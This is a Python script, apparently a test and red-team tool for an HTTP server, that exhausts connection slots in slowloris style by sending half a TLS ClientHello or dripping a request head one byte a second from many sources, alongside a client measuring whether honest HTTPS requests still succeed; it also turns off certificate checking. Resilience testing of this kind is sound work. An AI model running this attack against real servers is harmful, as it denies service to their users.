#!/usr/bin/python3
"""The HTTP endpoints' places under attack, for the tests (HTTPPlacesTests) and a red team.

attack: from each source address, PER connections that hold a place without ever sending a whole request, each
reconnecting the moment it is cut, for SECONDS:
  half  - half a TLS ClientHello, then nothing;
  drip  - TLS finished, then a request head one byte a second.
honest: REQUESTS GETs of PATH over HTTPS, one every INTERVAL s, each given TIMEOUT s; prints "ok N of M".
"""
import argparse
import asyncio
import ssl
import time

HALF_CLIENT_HELLO = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01])


def insecure_context():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def hold_place(host, port, source, mode, end, counts):
    context = insecure_context()
    while time.monotonic() < end:
        writer = None
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(
                host, port, local_addr=(source, 0) if source else None,
                ssl=context if mode == "drip" else None, server_hostname=host if mode == "drip" else None), 3)
            counts["connections"] += 1
            if mode == "half":
                writer.write(HALF_CLIENT_HELLO)
                await writer.drain()
                while time.monotonic() < end:
                    try:
                        if not await asyncio.wait_for(reader.read(4096), 1):
                            break
                    except asyncio.TimeoutError:
                        continue
            else:
                head = b"GET /streams.json HTTP/1.1\r\nX-Slow: " + b"a" * 4000
                for byte in head:
                    if time.monotonic() >= end:
                        break
                    writer.write(bytes([byte]))
                    await writer.drain()
                    try:
                        if not await asyncio.wait_for(reader.read(4096), 1):
                            break
                    except asyncio.TimeoutError:
                        continue
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            await asyncio.sleep(0.001)
        finally:
            if writer:
                writer.transport.abort()


async def attack(arguments):
    end = time.monotonic() + arguments.seconds
    counts = {"connections": 0}
    sources = arguments.sources.split(",") if arguments.sources else [None]
    tasks = [hold_place(arguments.host, arguments.port, source, arguments.mode, end, counts)
             for source in sources for _ in range(arguments.per)]
    await asyncio.gather(*tasks)
    print(f"attack {arguments.mode}: {counts['connections']} connections", flush=True)


def honest(arguments):
    import http.client
    ok = 0
    for _ in range(arguments.requests):
        started = time.monotonic()
        try:
            connection = http.client.HTTPSConnection(arguments.host, arguments.port, timeout=arguments.timeout,
                                                     context=insecure_context(),
                                                     source_address=(arguments.source, 0) if arguments.source else None)
            connection.request("GET", arguments.path)
            response = connection.getresponse()
            response.read()
            ok += response.status == 200
            connection.close()
        except (OSError, ssl.SSLError, http.client.HTTPException):
            pass
        time.sleep(max(0, arguments.interval - (time.monotonic() - started)))
    print(f"ok {ok} of {arguments.requests}", flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("role", choices=["attack", "honest"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--mode", choices=["half", "drip"], default="half")
    parser.add_argument("--sources", default="")
    parser.add_argument("--source", default="")
    parser.add_argument("--per", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=15)
    parser.add_argument("--requests", type=int, default=40)
    parser.add_argument("--interval", type=float, default=0.25)
    parser.add_argument("--timeout", type=float, default=3)
    parser.add_argument("--path", default="/streams.json")
    arguments = parser.parse_args()
    if arguments.role == "attack":
        asyncio.run(attack(arguments))
    else:
        honest(arguments)


if __name__ == "__main__":
    main()
